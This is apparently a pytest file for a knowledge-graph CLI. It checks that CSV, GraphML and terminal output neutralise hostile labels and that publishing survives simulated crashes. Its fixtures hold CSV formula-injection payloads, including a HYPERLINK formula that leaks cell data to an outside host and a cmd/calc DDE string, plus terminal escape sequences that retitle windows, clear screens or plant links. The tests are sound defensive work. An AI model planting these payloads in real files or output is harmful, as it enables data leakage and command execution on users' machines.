"""Hostile data and faults against kg's outputs: what it writes is safe to open, and publishing
leaves no instant without ``exports/`` or a store.

* CSV cells a spreadsheet would evaluate are neutralised (OWASP), numbers stay numbers;
* GraphML is well-formed XML whatever the labels hold, read back by three parsers;
* text for the terminal shows control characters from the data as escapes;
* ``-o`` writes into a FIFO or a device and never replaces it;
* ``exports/``, ``kg load`` and the cache publish in one step, and the next run cleans up
  after a crash (simulated in child processes killed at the worst moment).

The hostile graphs are the mini fixture with labels, aliases and qualifiers edited in
rdflib, as a graph loaded from an Oxigraph store may hold them; the validator (which
refuses such names in seeds) is not what these tests lean on.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from conftest import DATA, MINI
from rdflib import RDFS, SKOS, XSD, Graph, Literal
from rdflib.namespace import DCTERMS

from kg import cache
from kg import files as kg_files
from kg.cli import main
from kg.errors import ExportError, StoreError
from kg.export.tabular import edges_csv, nodes_csv, to_graphml
from kg.files import recover, replace_folder
from kg.pipeline import compile_graph
from kg.project import init_project
from kg.report import render
from kg.stores import QueryResult
from kg.stores.memory import MemoryStore
from kg.stores.oxigraph import OxigraphStore, load
from kg.vocab import ID, KG, STMT

RED_HAND = "Red\x1b]0;owned\x07 Hand\r\x1b[2J"
"""A label that retitles the window, returns the carriage and clears the screen."""
LINK = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
"""An OSC 8 hyperlink, as a fact's role."""
HYPERLINK = '=HYPERLINK("http://host/leak?x="&A1,"click")'
TARGETS = STMT["900_00000000000000aa.red-hand.targets.freeland"]
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
"""What must never reach the terminal from data (a line feed may)."""


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def beside(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.parent.iterdir() if p.name != folder.name)


@pytest.fixture(scope="module")
def hostile() -> Graph:
    """The mini graph with hostile text where curators write text."""
    graph = compile_graph(MINI)
    graph.set((ID["red-hand"], RDFS.label, Literal(RED_HAND)))
    graph.add((ID["red-hand"], SKOS.altLabel, Literal("=cmd|x")))
    graph.set((ID["freeland"], RDFS.label, Literal(HYPERLINK)))
    graph.set((ID["test-wire"], RDFS.label, Literal("Test\x00wire\x0c\ufffe\uffff\x01")))
    graph.add((TARGETS, SKOS.note, Literal("-2+3+cmd|' /C calc'!A0")))
    graph.add((TARGETS, KG.roleTitle, Literal(LINK)))
    graph.add((TARGETS, KG.confidence, Literal("-0.5", datatype=XSD.decimal)))
    graph.add((TARGETS, DCTERMS.date, Literal("--03-15", datatype=XSD.gMonthDay)))
    return graph


@pytest.fixture(scope="module")
def hostile_store(hostile: Graph) -> MemoryStore:
    return MemoryStore(hostile)


@pytest.fixture
def dead_pid() -> int:
    """The pid of a process that has ended."""
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid


def run(*args: str, obj: object = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), obj=obj)
    return result.exit_code, result.stdout, result.stderr


def child(script: str, *args: str) -> int:
    """Run ``script`` in a new Python (kg importable) and return its exit status."""
    done = subprocess.run([sys.executable, "-c", script, *args], capture_output=True, text=True, timeout=60)
    assert done.returncode != 1, done.stderr
    return done.returncode


# --- CSV: nothing a spreadsheet evaluates ---


def _rows(data: bytes) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    return {row["Id"]: row for row in rows}


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
)
def test_a_csv_cell_a_spreadsheet_would_evaluate_starts_with_a_quote_and_is_quoted(hostile: Graph, text: str) -> None:
    graph = Graph()
    for triple in hostile:
        graph.add(triple)
    graph.set((ID["ford-post"], RDFS.label, Literal(text)))
    data = nodes_csv(graph)
    assert _rows(data)["ford-post"]["Label"] == "'" + text
    escaped = text.replace('"', '""')
    assert f'ford-post,"\'{escaped}",border post,place,' in data.decode()


def test_csv_neutralises_labels_notes_dates_and_list_items_not_numbers(hostile: Graph) -> None:
    nodes, edges = _rows(nodes_csv(hostile)), _rows(edges_csv(hostile))
    assert nodes["freeland"]["Label"] == "'" + HYPERLINK
    assert nodes["red-hand"]["aliases"] == "'=cmd|x|RH|Red Hand rebels"  # each item, as it would split
    fact = edges["900_00000000000000aa.red-hand.targets.freeland"]
    assert fact["note"] == "'-2+3+cmd|' /C calc'!A0"
    assert fact["date"] == "'--03-15"  # a date with no year is text that Excel would compute to -12
    assert fact["confidence"] == "-0.5"  # a number is a number
    assert ',-0.5,"\'--03-15",' in edges_csv(hostile).decode()


def test_the_curated_csv_has_no_cell_to_neutralise(files: dict[str, bytes]) -> None:
    """So the committed nodes.csv and edges.csv are byte for byte what they were."""
    for name in ("nodes.csv", "edges.csv"):
        cells = [cell for row in csv.reader(io.StringIO(files[name].decode(), newline="")) for cell in row]
        assert [c for c in cells if c.startswith(("'", "=", "+", "-", "@", "\t", "\r"))] == []


# --- GraphML: always well-formed ---


def test_graphml_is_well_formed_whatever_the_labels(hostile: Graph, tmp_path: Path) -> None:
    import igraph

    graph = Graph()
    for triple in hostile:
        graph.add(triple)
    graph.set((ID["ford-post"], RDFS.label, Literal("lone \ud800 surrogate")))
    data = to_graphml(graph)
    ET.fromstring(data)  # raises on anything ill-formed
    read = nx.read_graphml(io.BytesIO(data), force_multigraph=True)
    assert read.nodes["red-hand"]["label"] == "Red\ufffd]0;owned\ufffd Hand\r\ufffd[2J"  # CR kept: &#13;
    assert read.nodes["test-wire"]["label"] == "Test\ufffdwire\ufffd\ufffd\ufffd\ufffd"
    assert read.nodes["ford-post"]["label"] == "lone \ufffd surrogate"
    (tmp_path / "g.graphml").write_bytes(data)
    assert sorted(igraph.Graph.Read_GraphML(str(tmp_path / "g.graphml")).vs["label"])[0] == HYPERLINK


def test_graphml_exported_from_an_oxigraph_store_reads_back(hostile: Graph, tmp_path: Path) -> None:
    source = tmp_path / "hostile.nt"
    source.write_bytes(hostile.serialize(format="nt", encoding="utf-8"))
    assert run("load", str(source), "--store", f"oxigraph:{tmp_path / 'store'}")[0] == 0
    code, out, _ = run("export", "--format", "graphml", "--store", f"oxigraph:{tmp_path / 'store'}")
    assert code == 0
    labels = {n: d["label"] for n, d in nx.read_graphml(io.BytesIO(out.encode())).nodes(data=True)}
    assert labels["test-wire"] == "Test\ufffdwire\ufffd\ufffd\ufffd\ufffd"


# --- the terminal: escapes, never the control characters themselves ---


def test_show_prints_controls_from_the_data_as_escapes(hostile_store: MemoryStore) -> None:
    code, out, _ = run("show", "red-hand", obj=hostile_store)
    assert code == 0 and not CONTROL.search(out)
    assert out.splitlines()[0] == r"Red\x1b]0;owned\x07 Hand\x0d\x1b[2J (red-hand)"
    assert r"targets (\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07)" in out


@pytest.mark.parametrize(
    "args, shown",
    [
        (["neighbors", "red-hand"], r"targets (\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07)"),
        (["path", "red-hand", "freeland"], r"targets (\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07)"),
        (["rank", "--top", "10"], r"Red\x1b]0;owned\x07 Hand\x0d\x1b[2J"),
        (["query", "-e", "SELECT ?l WHERE { id:red-hand rdfs:label ?l }"], r"Red\x1b]0;owned\x07 Hand\x0d\x1b[2J"),
    ],
)
def test_tables_print_controls_from_the_data_as_escapes(hostile_store: MemoryStore, args: list[str], shown) -> None:
    code, out, _ = run(*args, obj=hostile_store)
    assert code == 0 and not CONTROL.search(out)
    assert shown in out


def test_construct_prints_turtle_escapes_that_read_back_exactly(hostile_store: MemoryStore) -> None:
    code, out, _ = run(
        "query", "-e", "CONSTRUCT { id:red-hand rdfs:label ?l } WHERE { id:red-hand rdfs:label ?l }", obj=hostile_store
    )
    assert code == 0 and not CONTROL.search(out)
    assert r"Red\u001B]0;owned\u0007 Hand\r\u001B[2J" in out
    assert set(Graph().parse(data=out, format="turtle").objects()) == {Literal(RED_HAND)}


def test_machine_formats_keep_the_data_exact(hostile_store: MemoryStore) -> None:
    query = ["query", "-e", "SELECT ?l WHERE { id:red-hand rdfs:label ?l }", "--format"]
    exact = CliRunner().invoke(main, [*query, "csv"], obj=hostile_store).stdout_bytes
    assert exact == f'l\r\n"{RED_HAND}"\n'.encode()  # CSV has no escapes: the data as it is
    document = json.loads(run(*query, "json", obj=hostile_store)[1])
    assert document["results"]["bindings"] == [{"l": {"type": "literal", "value": RED_HAND}}]
    tsv = run(*query, "tsv", obj=hostile_store)[1]
    assert tsv == '?l\n"Red\\u001B]0;owned\\u0007 Hand\\r\\u001B[2J"\n'
    term = tsv.splitlines()[1]
    assert set(Graph().parse(data=f"<s:a> <s:b> {term} .", format="turtle").objects()) == {Literal(RED_HAND)}
    tabbed = render(QueryResult("select", ["l"], [(Literal("a\tb\nc"),)]), "tsv")
    assert tabbed == '?l\n"""a\\u0009b\\u000Ac"""'  # one row, one line


def test_a_load_error_shows_what_it_quotes_of_the_file_as_escapes(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "h.nt").write_bytes(b"<http://a> <http://b> \x1b]0;owned\x07 .\n")
    code, _, err = run("load", "h.nt", "--store", "oxigraph:store")
    message = r"error: h.nt:1: column 23: '\x1b' is not allowed at the beginning of a prefix name (nothing loaded)"
    assert (code, err) == (1, message + "\n")


# --- -o onto a FIFO, a device, a link, a socket ---


def test_export_into_a_fifo_writes_into_it(mini: MemoryStore, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    read: list[bytes] = []
    reader = threading.Thread(target=lambda: read.append(fifo.read_bytes()), daemon=True)
    reader.start()
    code, out, err = run("export", "--format", "ntriples", "-o", str(fifo), obj=mini)
    reader.join(10)
    expected = run("export", "--format", "ntriples", obj=mini)[1].encode()
    assert (code, out, read) == (0, "", [expected])
    assert err == f"wrote {fifo} ({len(expected)} bytes)\n"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_export_and_view_into_dev_null_leave_it_a_device(mini: MemoryStore) -> None:
    code, out, err = run("export", "--format", "turtle", "-o", "/dev/null", obj=mini)
    assert (code, out) == (0, "") and err.startswith("wrote /dev/null (")
    code, out, err = run("view", "-o", "/dev/null", obj=mini)
    assert (code, out, err) == (0, "", "wrote /dev/null (6 entities, 7 relationships)\n")
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_export_to_dev_stdout_is_standard_output(mini: MemoryStore) -> None:
    expected = run("export", "--format", "ntriples", obj=mini)[1]
    code, out, err = run("export", "--format", "ntriples", "-o", "/dev/stdout", obj=mini)
    assert (code, out, err) == (0, expected, f"wrote /dev/stdout ({len(expected.encode())} bytes)\n")


def test_export_through_a_link_replaces_the_file_and_keeps_the_link(mini: MemoryStore, tmp_path: Path) -> None:
    (tmp_path / "real.nt").write_text("old")
    (tmp_path / "link.nt").symlink_to("real.nt")
    assert run("export", "--format", "ntriples", "-o", str(tmp_path / "link.nt"), obj=mini)[0] == 0
    assert os.readlink(tmp_path / "link.nt") == "real.nt"
    assert (tmp_path / "real.nt").read_text() == run("export", "--format", "ntriples", obj=mini)[1]


def test_export_onto_a_socket_is_refused_in_one_line(mini: MemoryStore, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("sock")
        code, _, err = run("export", "--format", "turtle", "-o", "sock", obj=mini)
        assert (code, err) == (1, "error: cannot write to sock: it is a socket, not a file, FIFO or device\n")
        assert stat.S_ISSOCK(os.lstat("sock").st_mode)


# --- exports/: one exchange, and what a crash leaves is cleaned up ---


@pytest.fixture
def exports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A published exports/ folder (two files), the working directory beside it."""
    monkeypatch.chdir(tmp_path)
    replace_folder(tmp_path / "exports", {"graph.ttl": b"old", "groups/ttp.html": b"<p>old</p>"})
    return tmp_path / "exports"


def test_exports_are_published_in_one_step(exports: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_rename(*args: object) -> None:
        raise AssertionError("published with a rename: there would be a window")

    monkeypatch.setattr(kg_files.os, "rename", no_rename)
    replace_folder(exports, {"graph.ttl": b"new"})
    assert snapshot(exports) == {"graph.ttl": b"new"}
    assert beside(exports) == []


def test_builds_whose_swaps_interleave_each_publish_whole(exports: Path) -> None:
    contents = [{"graph.ttl": f"build {n}".encode(), f"only-{n}.txt": b"x"} for n in range(4)]
    errors: list[BaseException] = []

    def publish_often(files: dict[str, bytes]) -> None:
        try:
            for _ in range(10):
                replace_folder(exports, files)
        except BaseException as err:
            errors.append(err)

    builds = [threading.Thread(target=publish_often, args=(files,)) for files in contents]
    for build in builds:
        build.start()
    for build in builds:
        build.join(30)
    assert errors == [] and snapshot(exports) in contents and beside(exports) == []


def test_exports_never_replace_what_is_not_a_folder() -> None:
    with pytest.raises(ExportError, match="^could not replace /dev/null: it is not a folder$"):
        replace_folder(Path("/dev/null"), {"graph.ttl": b"new"})  # an exchange would have moved /dev/null
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_a_failed_exchange_leaves_exports_as_they_were(exports: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = snapshot(exports)

    def busy(a: Path, b: Path) -> bool:
        raise OSError(errno.EBUSY, "Device or resource busy")

    monkeypatch.setattr(kg_files, "exchange", busy)
    with pytest.raises(ExportError) as caught:
        replace_folder(exports, {"graph.ttl": b"new"})
    assert str(caught.value) == "could not replace exports: Device or resource busy"
    assert snapshot(exports) == before and beside(exports) == []


def test_without_exchange_a_failed_second_rename_puts_exports_back(exports: Path, monkeypatch) -> None:
    before = snapshot(exports)
    monkeypatch.setattr(kg_files, "exchange", lambda a, b: False)
    real = os.rename

    def second_fails(src: str, dst: str) -> None:
        if ".tmp-" in str(src):
            raise OSError(errno.EIO, "Input/output error")
        real(src, dst)

    monkeypatch.setattr(kg_files.os, "rename", second_fails)
    with pytest.raises(ExportError, match="^could not replace exports: Input/output error$"):
        replace_folder(exports, {"graph.ttl": b"new"})
    assert snapshot(exports) == before and beside(exports) == []


CRASH_BETWEEN_RENAMES = """
import os, sys
from pathlib import Path
from kg import files
files.exchange = lambda a, b: False  # a system without RENAME_EXCHANGE
rename = os.rename
def crash_after_the_first(src, dst):
    rename(src, dst)
    if ".old-" in str(dst):
        os._exit(9)
os.rename = crash_after_the_first
if sys.argv[1] == "exports":
    files.replace_folder(Path(sys.argv[2]), {"graph.ttl": b"new"})
else:
    from kg.stores.oxigraph import load
    load([Path(sys.argv[3])], Path(sys.argv[2]))
"""


def test_a_crash_between_the_two_renames_is_undone_by_the_next_build(exports: Path, dead_pid: int) -> None:
    before = snapshot(exports)
    assert child(CRASH_BETWEEN_RENAMES, "exports", str(exports)) == 9
    assert not exports.exists()  # the window: only where the system cannot exchange
    [old, tmp] = beside(exports)
    assert old.startswith(".exports.old-") and tmp.startswith(".exports.tmp-")
    (exports.parent / f".exports.tmp-{dead_pid}-abcdefgh").mkdir()
    running = exports.parent / f".exports.tmp-{os.getppid()}-abcdefgh"  # a live command's
    running.mkdir()
    code, _, err = run("build", "--seeds", str(DATA / "broken"), "--exports", "exports")
    assert code == 1 and err.endswith(" problems found\n")
    assert snapshot(exports) == before  # a failing build puts back the exports a crash took away
    assert beside(exports) == [running.name]


def test_abandoned_staging_folders_go_and_live_ones_stay(exports: Path, dead_pid: int) -> None:
    parent = exports.parent
    names = [
        f".exports.tmp-{dead_pid}-x1y2z3w4",
        f".exports.old-{dead_pid}",
        f".exports.tmp-{os.getppid()}-x1y2z3w4",
        ".exports.tmp-legacy01",  # no pid, fresh: may be a running older kg's
        ".exports.lock",
    ]
    for name in names:
        (parent / name).mkdir()
    assert recover(exports) is None
    assert beside(exports) == sorted(names[2:])
    assert snapshot(exports) == {"graph.ttl": b"old", "groups/ttp.html": b"<p>old</p>"}


# --- kg load: a crash mid-load or mid-swap loses nothing ---

GOOD = "".join(f'<http://example.org/s{i}> <http://example.org/p> "{i}" .\n' for i in range(50))
MORE = '<http://example.org/t> <http://example.org/p> "more" .\n'

CRASH_MID_LOAD = """
import os, signal, sys
from pathlib import Path
import kg.stores.oxigraph as oxigraph
read = oxigraph._load_file
def killed_after_reading(*args):
    read(*args)
    os.kill(os.getpid(), signal.SIGKILL)
oxigraph._load_file = killed_after_reading
oxigraph.load([Path(sys.argv[2])], Path(sys.argv[1]))
"""


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An Oxigraph store of 50 triples, and ``more.nt`` beside it to load."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "good.nt").write_text(GOOD)
    (tmp_path / "more.nt").write_text(MORE)
    load([tmp_path / "good.nt"], tmp_path / "store")
    return tmp_path / "store"


def test_a_load_killed_mid_load_leaves_the_store_byte_for_byte(store: Path) -> None:
    before = snapshot(store)
    assert child(CRASH_MID_LOAD, str(store), "more.nt") == -9
    assert snapshot(store) == before
    assert [n for n in beside(store) if n.startswith(".store.loading-")] != []  # what the crash left
    code, out, _ = run("load", "more.nt", "--store", "oxigraph:store")
    assert (code, out) == (0, "loaded 1 file (55 bytes) into store: 51 triples, 1 new\n")
    assert beside(store) == [".store.lock", "good.nt", "more.nt"]


def test_a_load_interrupted_between_renames_is_recovered_not_restarted(store: Path) -> None:
    assert child(CRASH_BETWEEN_RENAMES, "load", str(store), "more.nt") == 9
    assert not store.exists()
    code, out, err = run("load", "more.nt", "--store", "oxigraph:store")
    assert (code, out) == (0, "loaded 1 file (55 bytes) into store: 51 triples, 1 new\n")
    assert err == "put back store as it was before an interrupted load\n"
    assert beside(store) == [".store.lock", "good.nt", "more.nt"]


def test_a_failed_exchange_leaves_the_store_byte_for_byte(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = snapshot(store)

    def busy(a: Path, b: Path) -> bool:
        raise OSError(errno.EBUSY, "Device or resource busy")

    monkeypatch.setattr(kg_files, "exchange", busy)
    with pytest.raises(StoreError) as caught:
        load([Path("more.nt")], store)
    assert str(caught.value) == "could not replace store: Device or resource busy (nothing loaded)"
    assert snapshot(store) == before
    assert len(OxigraphStore(store)) == 50


# --- the compiled-graph cache ---


def test_the_cache_drops_stale_stores_in_one_step_and_cleans_up_after_crashes(tmp_path: Path, dead_pid) -> None:
    project = init_project(tmp_path / "p")
    folder = project.cache_dir
    folder.mkdir(exist_ok=True)
    leftovers = [f".filling-{dead_pid}-abcdefgh", f".dropped-{dead_pid}-graph-0123"]
    live = [f".filling-{os.getppid()}-abcdefgh", ".filling-legacy01"]
    half = folder / f"{cache.PREFIX}{cache.cache_key(project)}"  # half removed by an older kg
    stale = folder / f"{cache.PREFIX}{'0' * 24}"  # a store of older seeds
    for name in [*leftovers, *live, half.name, stale.name]:
        (folder / name).mkdir()
    (half / "000009.sst").write_bytes(b"")
    (stale / "IDENTITY").write_text("x\n")  # an Oxigraph file: only what kg made is dropped
    cache.open_cached(project)
    assert (half / "CURRENT").is_file()
    assert sorted(p.name for p in folder.iterdir()) == sorted([".gitignore", half.name, *live])


# --- -o: names shown as escapes, '' refused, '-' for standard output ---

ESCAPED_NAME = "z\x1b]0;pwned\x07\x1b[2J.ttl"
"""An -o name that would retitle the window and clear the screen if echoed raw."""


def test_a_path_with_controls_is_shown_as_escapes_in_every_wrote_line(mini: MemoryStore, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, out, err = run("export", "--format", "turtle", "-o", str(tmp_path / ESCAPED_NAME), obj=mini)
    size = len((tmp_path / ESCAPED_NAME).read_bytes())
    assert (code, out, err) == (0, f"wrote z\\x1b]0;pwned\\x07\\x1b[2J.ttl ({size} bytes)\n", "")
    code, out, err = run("export", "--format", "turtle", "-o", f"/tmp/../{tmp_path}/{ESCAPED_NAME}", obj=mini)
    assert (code, CONTROL.search(out), err) == (0, None, "")
    code, out, _ = run("view", "-o", "v\x1b[2J.html", obj=mini)
    assert (code, out) == (0, "wrote v\\x1b[2J.html (6 entities, 7 relationships)\n")
    os.mkfifo(tmp_path / "p\x1b[2J")
    reader = threading.Thread(target=lambda: (tmp_path / "p\x1b[2J").read_bytes(), daemon=True)
    reader.start()
    code, out, err = run("export", "--format", "ntriples", "-o", str(tmp_path / "p\x1b[2J"), obj=mini)
    reader.join(10)
    assert (code, out, CONTROL.search(err), "p\\x1b[2J" in err) == (0, "", None, True)


def test_an_empty_output_is_refused_and_a_dash_is_standard_output(mini: MemoryStore, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, out, err = run("export", "--format", "turtle", "-o", "", obj=mini)
    assert (code, out, err) == (
        1,
        "",
        "error: -o is empty: give a file or folder to write to, or '-' for standard output\n",
    )
    code, out, err = run("view", "-o", "", obj=mini)
    assert (code, out, err) == (1, "", "error: -o is empty: give a file to write to, or '-' for standard output\n")
    expected = run("export", "--format", "turtle", obj=mini)[1]
    assert run("export", "--format", "turtle", "-o", "-", obj=mini) == (0, expected, "")
    code, out, err = run("export", "--format", "csv", "-o", "-", obj=mini)
    assert (code, out, err) == (
        1,
        "",
        "error: csv is 4 files (claims.csv and edges.csv and nodes.csv and sources.csv): give -o FOLDER, "
        "or --format claims.csv or edges.csv or nodes.csv or sources.csv\n",
    )
    code, out, err = run("view", "-o", "-", obj=mini)
    assert (code, out.startswith("<!DOCTYPE html>"), err) == (0, True, "wrote - (6 entities, 7 relationships)\n")
    assert list(tmp_path.iterdir()) == []  # no file named '' or '-', no graph.ttl


# --- a closed pipe: the same for every command ---


def kg_into(stdout: int, *args: str, **options) -> subprocess.CompletedProcess[bytes]:
    """``kg ARGS`` on the mini seeds as a real process whose standard output is ``stdout``."""
    command = [sys.executable, "-m", "kg", "--project", str(MINI.parent.parent.parent), *args, "--seeds", str(MINI)]
    return subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, timeout=120, **options)


@pytest.mark.parametrize(
    "args", [["stats"], ["show", "red hand"], ["export", "--format", "turtle"], ["query", "-e", "SELECT * {?s ?p ?o}"]]
)
def test_a_reader_gone_before_the_answer_stops_every_command_quietly(args: list[str]) -> None:
    read, write = os.pipe()
    os.close(read)  # like `kg ... | head -c1` once head has left
    try:
        done = kg_into(write, *args)
    finally:
        os.close(write)
    assert (done.returncode, done.stderr) == (0, b"")


def test_an_output_closed_that_is_not_standard_output_is_an_error() -> None:
    read, write = os.pipe()
    os.close(read)
    try:
        done = kg_into(subprocess.DEVNULL, "export", "--format", "turtle", "-o", f"/dev/fd/{write}", pass_fds=[write])
    finally:
        os.close(write)
    assert (done.returncode, done.stderr) == (
        1,
        b"error: the output was closed before all of it was written (broken pipe)\n",
    )


# --- -o FOLDER/: a folder, never a file named like it ---


def test_o_ending_in_a_slash_never_writes_a_file_named_like_the_folder(mini: MemoryStore, tmp_path: Path) -> None:
    folder = tmp_path / "newdir"
    code, out, err = run("view", "-o", f"{folder}/", obj=mini)
    assert (code, out, err) == (
        1,
        "",
        f"error: -o {folder}/ ends in '/', a folder: a view is one file; give a file name (e.g. {folder}/network.html)\n",
    )
    code, out, err = run("export", "--format", "turtle", "-o", f"{folder}/", obj=mini)
    assert (code, out, err) == (
        1,
        "",
        f"error: -o {folder}/ ends in '/', a folder, which does not exist: turtle is one file; "
        f"make the folder first, or give a file name ({folder}/graph.ttl)\n",
    )
    assert list(tmp_path.iterdir()) == []
    folder.mkdir()  # an existing folder gets the format's file
    code, _, err = run("export", "--format", "turtle", "-o", f"{folder}/", obj=mini)
    assert (code, sorted(p.name for p in folder.iterdir())) == (0, ["graph.ttl"])
